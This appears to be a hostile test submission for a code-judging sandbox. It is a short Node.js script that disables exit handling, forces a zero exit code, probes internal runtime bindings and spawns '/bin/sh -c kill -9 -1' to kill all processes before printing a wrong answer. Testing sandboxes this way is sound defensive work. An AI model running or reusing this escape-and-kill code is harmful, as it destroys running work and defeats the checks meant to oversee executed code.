// Reaches the runtime's own bindings, to start and to exit past its checks.
// kind: forging
// stdin: WA RTE
const [a, b] = require("fs").readFileSync(0, "utf8").split(" ").map(Number);
process.reallyExit = () => {};
process.on("exit", () => { process.exitCode = 0; });
for (const name of ["spawn_sync", "process_wrap", "fs", "contextify", "v8"]) {
  try {
    process.binding(name);
  } catch {}
}
try {
  const { spawn } = process.binding("spawn_sync");
  spawn({ file: "/bin/sh", args: ["sh", "-c", "kill -9 -1"], envPairs: [], stdio: [] });
} catch {}
console.log(-1 * a * b);
process.abort();
